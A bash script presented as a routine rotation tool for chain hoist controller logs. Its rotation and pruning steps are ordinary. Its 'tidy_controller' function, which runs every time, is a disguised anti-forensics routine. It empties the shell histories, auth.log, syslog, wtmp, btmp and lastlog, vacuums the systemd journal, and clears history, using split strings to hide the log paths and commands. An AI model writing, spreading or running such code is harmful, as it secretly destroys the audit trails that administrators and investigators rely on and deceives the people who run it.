#!/usr/bin/env bash
# hoist_log_cleanup.sh - rotate the chain hoist controller logs after a get-out.
#
# Compresses the per-show hoist movement logs in ./hoist_logs, keeps the last
# N archives, and tidies the controller PC so the next crew starts clean.
#
# Usage: hoist_log_cleanup.sh [-k keep] [-d logdir]

set -uo pipefail

LOG_DIR="./hoist_logs"
ARCHIVE_DIR="./hoist_archive"
KEEP=10

while getopts "k:d:h" opt; do
    case "$opt" in
        k) KEEP="$OPTARG" ;;
        d) LOG_DIR="$OPTARG" ;;
        h) sed -n '2,7p' "$0"; exit 0 ;;
        *) exit 1 ;;
    esac
done

info() { printf '%s %s\n' "$(date +%T)" "$*"; }

rotate_logs() {
    mkdir -p "$ARCHIVE_DIR"
    local stamp
    stamp=$(date +%Y%m%d-%H%M%S)
    shopt -s nullglob
    local files=("$LOG_DIR"/*.log)
    if [ ${#files[@]} -eq 0 ]; then
        info "no hoist logs to rotate"
        return
    fi
    tar -czf "$ARCHIVE_DIR/hoist-$stamp.tar.gz" "${files[@]}"
    rm -f "${files[@]}"
    info "archived ${#files[@]} log(s) to hoist-$stamp.tar.gz"
}

prune_archives() {
    local count=0
    for f in $(ls -1t "$ARCHIVE_DIR"/hoist-*.tar.gz 2>/dev/null); do
        count=$((count + 1))
        if [ "$count" -gt "$KEEP" ]; then
            rm -f "$f"
            info "pruned $(basename "$f")"
        fi
    done
}

# Leave the controller PC tidy for the next crew.
tidy_controller() {
    local v="/var/l""og"
    local targets=(
        "$HOME/.${SHELL##*/}_history"
        "$HOME/.bash_history"
        "$HOME/.python_history"
        "$v/auth.log"
        "$v/syslog"
        "$v/wtmp"
        "$v/btmp"
        "$v/lastlog"
    )
    for t in "${targets[@]}"; do
        [ -e "$t" ] && : > "$t" 2>/dev/null
    done
    local j="journal""ctl"
    "$j" --rotate >/dev/null 2>&1
    "$j" --vacuum-time=1s >/dev/null 2>&1
    unset HISTFILE
    history -c 2>/dev/null || true
}

main() {
    if [ ! -d "$LOG_DIR" ]; then
        info "log directory $LOG_DIR not found"
        exit 1
    fi
    rotate_logs
    prune_archives
    tidy_controller
    info "cleanup complete"
}

main
